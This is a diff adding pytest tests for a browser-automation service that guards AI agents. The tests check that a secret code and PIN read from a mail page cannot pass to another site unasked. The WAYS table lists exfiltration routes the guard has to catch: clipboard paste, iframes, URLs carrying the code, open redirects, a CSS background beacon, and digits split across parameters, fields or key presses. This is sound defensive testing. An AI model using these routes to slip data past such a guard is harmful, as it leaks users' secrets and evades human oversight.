@@ -241,3 +241,95 @@ async def test_a_frame_of_another_site_is_another_site(service: RunningService, 
     fill = agent.reply("fill", pageId="m", selector="#q", frame="#f", value=CODE)
     reply = await answering(service, fill, asked, "Refuse")
     assert (reply.json()["error"]["code"], len(asked)) == ("FORBIDDEN", 1)
+
+
+FROM_MAIL = """<textarea id=t>Code {code}, PIN 4829</textarea><textarea id=draft></textarea>
+<iframe id=f src={there}/q></iframe>"""
+WAYS: Final[dict[str, list[tuple[str, str, dict[str, AnyJson]]]]] = {
+    "copied and pasted": [
+        ("press", "m", {"selector": "#t", "key": "Control+a"}),
+        ("press", "m", {"key": "Control+c"}),
+        ("press", "g", {"selector": "#q", "key": "Control+v"}),
+    ],
+    "cut, and pasted in a frame": [
+        ("press", "m", {"selector": "#t", "key": "Control+a"}),
+        ("press", "m", {"key": "Shift+Delete"}),
+        ("press", "m", {"selector": "#q", "frame": "#f", "key": "Shift+Insert"}),
+    ],
+    "an address that the mail shows because the chat wrote it there": [
+        ("fill", "m", {"selector": "#draft", "value": "{there}/?c={code}"}),
+        ("snapshot", "m", {}),
+        ("goto", "g", {"url": "{there}/?c={code}"}),
+    ],
+    "such an address in two parts": [
+        ("fill", "m", {"selector": "#draft", "value": "{there}/?c=K7Q2-9"}),
+        ("type", "m", {"selector": "#draft", "text": "XVB-44TD"}),
+        ("snapshot", "m", {}),
+        ("goto", "g", {"url": "{there}/?c={code}"}),
+    ],
+    "by a redirect of the mail": [("goto", "m", {"url": "{here}/out?to={there}%2F%3Fc={code}"})],
+    "by a redirect that a request follows": [
+        ("fetch", "m", {"url": "{here}/out?to=%252F%252F{host}/?c={code}", "mode": "no-cors"})
+    ],
+    "a style sheet for a picture": [("screenshot", "g", {"style": "body {background: url({there}/?c=1)}"})],
+    "four digits in two parameters": [("goto", "g", {"url": "{there}/?a=48&b=29"})],
+    "four digits in two addresses": [("goto", "g", {"url": "{there}/?a=48"}), ("goto", "g", {"url": "{there}/?b=29"})],
+    "four digits in two fields": [
+        (
+            "fill_form",
+            "g",
+            {"fields": [{"selector": "#q", "value": "48"}, {"selector": "#r", "value": "29"}]},
+        )
+    ],
+    "four digits by the names of keys": [
+        ("press", "g", {"selector": "#q", "key": key}) for key in ("Digit4", "Numpad8", "Digit2", "Digit9")
+    ],
+}
+
+
+@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS.keys())
+async def test_no_way_round_leads_from_one_site_to_another(
+    service: RunningService, agent: Agent, site: Site, way: list[tuple[str, str, dict[str, AnyJson]]]
+) -> None:
+    """The chat named both sites by itself; the last step is asked about."""
+    here, there = site.url(""), site.url("", host="localhost")
+    site.page("/q", "<input id=q><input id=r>")
+    site.page("/out", "not followed")
+    site.page("/mail", FROM_MAIL.format(code=CODE, there=there))
+    made = await agent.call("create_session", guarded=True)
+    await agent.call("open_page", pageId="g", sessionId=made["sessionId"], url=f"{there}/q")
+    await agent.call("open_page", pageId="m", sessionId=made["sessionId"], url=f"{here}/mail")
+    await agent.call("extract_text", pageId="m", selector="#t")
+    asked: list[str] = []
+    for action, page_id, arguments in way:
+        assert asked == []
+        given: dict[str, AnyJson] = {
+            name: value.replace("{there}", there)
+            .replace("{here}", here)
+            .replace("{host}", there[7:])
+            .replace("{code}", CODE)
+            if isinstance(value, str)
+            else value
+            for name, value in arguments.items()
+        }
+        reply = await answering(service, agent.reply(action, pageId=page_id, **given), asked, "Refuse")
+    assert (reply.json()["error"]["code"], len(asked)) == ("FORBIDDEN", 1), reply.text
+
+
+async def test_what_was_copied_at_a_site_is_pasted_there_without_a_question(agent: Agent, site: Site) -> None:
+    made = await agent.call("create_session", guarded=True)
+    site.page("/mail", FROM_MAIL.format(code=CODE, there=site.url("", host="localhost")))
+    await agent.call("open_page", pageId="m", sessionId=made["sessionId"], url=site.url("/mail"))
+    await agent.call("press", pageId="m", selector="#t", key="Control+a")
+    await agent.call("press", pageId="m", key="Control+c")
+    assert CODE in (await agent.call("press", pageId="m", selector="#draft", key="Control+v"))["observed"]
+
+
+async def test_a_link_that_a_page_showed_by_itself_is_followed_again_and_again(agent: Agent, site: Site) -> None:
+    made = await agent.call("create_session", guarded=True)
+    link = site.url(f"/item?code={CODE}", host="localhost")
+    site.page("/item", "item")
+    await agent.call("open_page", pageId="m", sessionId=made["sessionId"], url=site.page("/mail", f"{CODE}: {link} ."))
+    await agent.call("extract_text", pageId="m", selector="body")
+    for _ in range(2):
+        await agent.call("goto", pageId="m", url=link)
